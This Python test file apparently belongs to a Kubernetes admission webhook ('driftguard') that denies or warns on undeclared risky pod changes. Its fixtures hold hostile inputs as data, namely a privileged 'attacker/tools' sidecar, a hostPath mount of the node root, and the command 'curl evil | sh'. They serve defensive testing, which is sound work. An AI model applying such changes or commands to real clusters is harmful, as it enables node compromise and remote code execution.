"""What git owns without declaring it: references and the strict pod profile (``driftguard.core.guards``), then the
policy's verdicts on them."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from support.admission import NOW, SETTINGS, deployment_manifest, live, review

from driftguard.core import contract, guards
from webhook import policy

POD = "spec.template.spec"
SIDECAR = {"name": "debug", "image": "attacker/tools:latest", "securityContext": {"privileged": True}}
OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "doomed", "uid": "c0ffee"}


def changed(obj: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """A copy with ``path`` (dots; ``containers.0`` indexes a list) set to ``value`` (``...`` deletes)."""
    out = copy.deepcopy(obj)
    *parents, last = path.split(".")
    target: Any = out
    for key in parents:
        target = target[int(key)] if isinstance(target, list) else target.setdefault(key, {})
    if value is ...:
        del target[last]
    elif isinstance(target, list):
        target[int(last)] = value
    else:
        target[last] = value
    return out


def _found(old: dict[str, Any], new: dict[str, Any], kind: str = "Deployment") -> list[tuple[str, str]]:
    declared = contract.read_stamp(old).declared if contract.is_managed(old) else {}
    return [(g.field, g.why) for g in guards.violations(kind, declared, old, new)]


OLD = live()


@pytest.mark.parametrize(("new", "expected"), [
    pytest.param(changed(OLD, f"{POD}.containers", [*OLD["spec"]["template"]["spec"]["containers"], SIDECAR]),
                 [(f"{POD}.containers[name=debug]",
                   "a container git does not list (git lists web, sidecar) runs or mounts whatever it names")],
                 id="a privileged sidecar"),
    pytest.param(changed(OLD, f"{POD}.volumes", [{"name": "root", "hostPath": {"path": "/"}}]),
                 [(f"{POD}.volumes[name=root]",
                   "a volume git does not list (git lists none) runs or mounts whatever it names")],
                 id="a hostPath volume"),
    pytest.param(changed(OLD, f"{POD}.hostPID", True), [(f"{POD}.hostPID", "shares the node's process namespace")],
                 id="hostPID"),
    pytest.param(changed(OLD, f"{POD}.hostNetwork", True), [(f"{POD}.hostNetwork", "shares the node's network")],
                 id="hostNetwork"),
    pytest.param(changed(OLD, f"{POD}.hostIPC", True), [(f"{POD}.hostIPC", "shares the node's IPC namespace")],
                 id="hostIPC"),
    pytest.param(changed(OLD, f"{POD}.serviceAccountName", "cluster-admin-sa"),
                 [(f"{POD}.serviceAccountName", "decides the pod's API credentials")], id="serviceAccountName"),
    pytest.param(changed(OLD, f"{POD}.securityContext", {"runAsUser": 0}),
                 [(f"{POD}.securityContext", "decides the pod's privileges")], id="pod securityContext"),
    pytest.param(changed(OLD, f"{POD}.containers.1.securityContext", {"privileged": True}),
                 [(f"{POD}.containers[name=sidecar].securityContext", "decides the container's privileges")],
                 id="container securityContext"),
    pytest.param(changed(OLD, f"{POD}.containers.1.command", ["/bin/sh", "-c", "curl evil | sh"]),
                 [(f"{POD}.containers[name=sidecar].command", "decides what runs")], id="command"),
    pytest.param(changed(OLD, f"{POD}.containers.1.args", ["--debug"]),
                 [(f"{POD}.containers[name=sidecar].args", "decides what runs")], id="args"),
    pytest.param(changed(OLD, f"{POD}.containers.0.image", "nginx"), [],
                 id="a declared image is left to the declared rule"),
    pytest.param(changed(OLD, f"{POD}.containers.0.imagePullPolicy", "Always"), [], id="an unguarded field"),
    pytest.param(changed(OLD, "metadata.ownerReferences", [OWNER]),
                 [("metadata.ownerReferences[uid=c0ffee]",
                   "the garbage collector deletes an object together with its owners")], id="an owner"),
    pytest.param(changed(OLD, "metadata.finalizers", ["example.com/hold"]),
                 [("metadata.finalizers", "a finalizer blocks deletion and prune")], id="a finalizer"),
    pytest.param(changed(OLD, "metadata.finalizers", ["service.kubernetes.io/load-balancer-cleanup"]), [],
                 id="the control plane's own finalizer"),
    pytest.param(changed(OLD, "metadata.labels", {**OLD["metadata"]["labels"], "x": "y"}), [], id="a label"),
])
def test_what_git_owns_without_declaring_it(new: dict[str, Any], expected: list[tuple[str, str]]) -> None:
    assert _found(OLD, new) == expected


def test_only_what_the_request_changes_counts() -> None:
    drifted = changed(OLD, f"{POD}.hostPID", True)
    assert _found(drifted, changed(drifted, "metadata.labels", {"x": "y"})) == []
    with_sidecar = changed(OLD, f"{POD}.containers", [*OLD["spec"]["template"]["spec"]["containers"], SIDECAR])
    assert _found(with_sidecar, changed(with_sidecar, "metadata.labels", {"x": "y"})) == []
    assert _found(with_sidecar, changed(with_sidecar, f"{POD}.containers.2.image", "other")) == [
        (f"{POD}.containers[name=debug].image", "decides what runs")]


def test_removals_and_deletion_pass() -> None:
    owned = changed(OLD, "metadata.ownerReferences", [OWNER])
    assert _found(owned, OLD) == []  # removing an owner git does not declare moves toward git
    deleting = changed(OLD, "metadata.deletionTimestamp", "2024-06-01T12:00:00Z")
    assert _found(deleting, changed(deleting, "metadata.finalizers", ["example.com/x"])) == []


def test_pods_and_cronjobs_have_their_pod_spec_where_kubernetes_puts_it() -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": {"containers": [{"name": "a"}]}}
    new = changed(pod, "spec.ephemeralContainers", [{"name": "debugger", "image": "busybox"}])
    assert _found(pod, new, "Pod") == [(
        "spec.ephemeralContainers[name=debugger]",
        "a ephemeral container git does not list (git lists none) runs or mounts whatever it names")]
    cron = {"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "a"}]}}}}}}
    assert _found(cron, changed(cron, "spec.jobTemplate.spec.template.spec.hostNetwork", True), "CronJob") == [
        ("spec.jobTemplate.spec.template.spec.hostNetwork", "shares the node's network")]
    assert _found(pod, changed(pod, "spec.hostNetwork", True), "ConfigMap") == []


# ---------------------------------------------------------------- verdicts

def test_a_privileged_sidecar_host_pid_and_a_host_path_are_denied_with_the_reason() -> None:
    pod_spec = copy.deepcopy(OLD["spec"]["template"]["spec"])
    pod_spec["containers"].append(SIDECAR)
    pod_spec["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    pod_spec["hostPID"] = True
    new = changed(OLD, POD, pod_spec)
    verdict = policy.validate(review("UPDATE", old=OLD, new=new)["request"], SETTINGS, NOW)
    assert verdict.outcome == "deny"
    assert verdict.message == (
        "Deployment production/my-service is managed by driftguard and git declares none of these, which driftguard "
        "guards anyway: spec.template.spec.hostPID (shares the node's process namespace; this request sets true); "
        "spec.template.spec.containers[name=debug] (a container git does not list (git lists web, sidecar) runs or "
        "mounts whatever it names; this request adds it); spec.template.spec.volumes[name=root] (a volume git does "
        "not list (git lists none) runs or mounts whatever it names; this request adds it). Change them in git: "
        "https://github.com/org/k8s-manifests")
    assert verdict.record is not None
    assert [f["field"] for f in verdict.record.fields] == [
        f"{POD}.hostPID", f"{POD}.containers[name=debug]", f"{POD}.volumes[name=root]"]


def test_declared_changes_and_guarded_ones_are_reported_together() -> None:
    new = changed(changed(OLD, "spec.replicas", 9), "metadata.ownerReferences", [OWNER])
    verdict = policy.validate(review("UPDATE", old=OLD, new=new)["request"], SETTINGS, NOW)
    assert verdict.outcome == "deny"
    assert verdict.message.startswith("spec.replicas of Deployment production/my-service is declared in git (3)")
    assert ". Also: Deployment production/my-service is managed by driftguard and git declares none of these" in (
        verdict.message)
    assert "metadata.ownerReferences[uid=c0ffee] (the garbage collector deletes an object together with its " \
           "owners; this request sets ConfigMap/doomed)" in verdict.message


def test_warn_mode_admits_guarded_changes_with_warnings() -> None:
    old = live(enforcement="warn")
    verdict = policy.validate(review("UPDATE", old=old, new=changed(old, f"{POD}.hostNetwork", True))["request"],
                              SETTINGS, NOW)
    assert verdict.outcome == "warn"
    assert verdict.warnings[0].startswith("spec.template.spec.hostNetwork of Deployment production/my-service is "
                                          "not declared in git and driftguard guards it")


def test_off_checks_nothing() -> None:
    old = live(enforcement="off")
    new = changed(old, f"{POD}.hostNetwork", True)
    assert policy.validate(review("UPDATE", old=old, new=new)["request"], SETTINGS, NOW).outcome == "allow"


def test_manifest_fixture_is_what_the_tables_assume() -> None:
    assert [c["name"] for c in deployment_manifest()["spec"]["template"]["spec"]["containers"]] == ["web", "sidecar"]
